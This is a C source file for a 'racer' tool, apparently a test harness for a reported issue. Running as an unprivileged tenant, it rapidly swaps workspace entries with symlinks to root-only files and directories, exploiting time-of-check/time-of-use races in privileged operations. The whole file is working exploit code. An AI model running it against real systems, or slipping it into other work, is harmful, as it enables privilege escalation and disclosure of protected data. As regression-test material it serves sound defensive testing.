/*
 * The tenant's racer (issue 45): run as the workspace's unprivileged uid with its cwd in the workspace, it swaps each
 * named entry with a symlink to a root-only target in a tight loop (renameat2 RENAME_EXCHANGE: both names always
 * exist, one is the tenant's own entry, the other the link), re-creating whatever a privileged operation removed.
 *
 *   racer SECONDS SECRET_FILE SECRET_DIR SPEC...     SPEC: f:NAME (a file) or d:NAME (a directory), NAME relative
 *
 * For f:NAME the partner NAME~ is a symlink to SECRET_FILE; for d:NAME, to SECRET_DIR. Prints "swaps N" and exits
 * after SECONDS or on SIGTERM. "ready" is printed once every pair exists.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop = 0;
static void on_term(int sig) { (void)sig; stop = 1; }

struct pair { char kind; char name[512]; char alt[520]; };

/* The tenant's own entry (a file, or a directory holding one) at `at`. */
static void make_entry(char kind, const char *at) {
  if (kind == 'd') {
    if (mkdir(at, 0755) != 0) return;
    char inner[600];
    snprintf(inner, sizeof inner, "%s/inner.txt", at);
    int fd = open(inner, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { (void)!write(fd, "tenant\n", 7); close(fd); }
  } else {
    int fd = open(at, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { (void)!write(fd, "tenant\n", 7); close(fd); }
  }
}

/* -1: missing, 1: a symlink, 0: anything else. */
static int is_link(const char *at) {
  struct stat st;
  if (lstat(at, &st) != 0) return -1;
  return S_ISLNK(st.st_mode) ? 1 : 0;
}

/* The pair again after a privileged operation removed one of its names (or both). */
static void ensure(struct pair *p, const char *file, const char *dir) {
  const char *target = p->kind == 'd' ? dir : file;
  int a = is_link(p->name), b = is_link(p->alt);
  if (a < 0 && b < 0) { make_entry(p->kind, p->name); (void)symlink(target, p->alt); }
  else if (a < 0) { if (b == 1) make_entry(p->kind, p->name); else (void)symlink(target, p->name); }
  else if (b < 0) { if (a == 1) make_entry(p->kind, p->alt); else (void)symlink(target, p->alt); }
}

int main(int argc, char **argv) {
  if (argc < 5) { fprintf(stderr, "usage: racer SECONDS SECRET_FILE SECRET_DIR SPEC...\n"); return 2; }
  double seconds = atof(argv[1]);
  const char *file = argv[2], *dir = argv[3];
  int n = argc - 4;
  struct pair *pairs = calloc(n, sizeof *pairs);
  for (int i = 0; i < n; i++) {
    const char *s = argv[4 + i];
    if ((s[0] != 'f' && s[0] != 'd') || s[1] != ':') { fprintf(stderr, "bad spec %s\n", s); return 2; }
    pairs[i].kind = s[0];
    snprintf(pairs[i].name, sizeof pairs[i].name, "%s", s + 2);
    snprintf(pairs[i].alt, sizeof pairs[i].alt, "%s~", s + 2);
    ensure(&pairs[i], file, dir);
  }
  signal(SIGTERM, on_term);
  signal(SIGINT, on_term);
  printf("ready\n");
  fflush(stdout);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  unsigned long long swaps = 0, loops = 0;
  while (!stop) {
    for (int i = 0; i < n; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, pairs[i].name, AT_FDCWD, pairs[i].alt, RENAME_EXCHANGE) == 0) swaps++;
      else if (errno == ENOENT) ensure(&pairs[i], file, dir);
    }
    if ((++loops & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &t);
      if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
    }
  }
  printf("swaps %llu\n", swaps);
  return 0;
}
